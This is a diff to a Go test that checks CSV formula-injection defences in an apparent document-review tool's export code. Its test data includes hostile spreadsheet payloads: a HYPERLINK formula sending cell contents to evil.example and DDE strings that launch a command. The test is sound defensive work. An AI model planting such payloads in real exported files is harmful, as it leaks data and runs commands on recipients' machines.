@@ -10,6 +10,7 @@ import (
 
 	"github.com/pakton/pakton/internal/document"
 	"github.com/pakton/pakton/internal/review"
+	"github.com/pakton/pakton/internal/review/detect"
 	"github.com/pakton/pakton/internal/review/export"
 )
 
@@ -21,7 +22,7 @@ func formulaLike(s string) bool {
 
 // TestCSVFormulaInjection: clause text, document names, provision names,
 // values and reviewers' corrections that start like a formula are written
-// to CSV with a quote before them, as OWASP recommends (issue 17 §5); the
+// to CSV with a quote before them, as OWASP recommends; the
 // XLSX export holds no formula at all.
 func TestCSVFormulaInjection(t *testing.T) {
 	hostile := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
@@ -34,7 +35,7 @@ func TestCSVFormulaInjection(t *testing.T) {
 		provs = append(provs, prov)
 		id := string(rune('a' + i))
 		cell := review.Cell{DocID: id, DocName: h, Provision: prov, Found: true, Confidence: 0.9, Value: h, Method: "detector",
-			Extracts: []review.Extract{{Span: document.Span{Start: 0, End: len([]rune(h))}, Text: h}}}
+			Extracts: []detect.Extract{{Span: document.Span{Start: 0, End: len([]rune(h))}, Text: h}}}
 		rows = append(rows, review.Row{DocID: id, DocName: h, Error: h, Cells: []review.Cell{cell}})
 		if i%2 == 0 {
 			ds = ds.Set(review.Decision{DocID: id, Provision: prov, Verdict: review.Corrected, Text: h, Value: h})
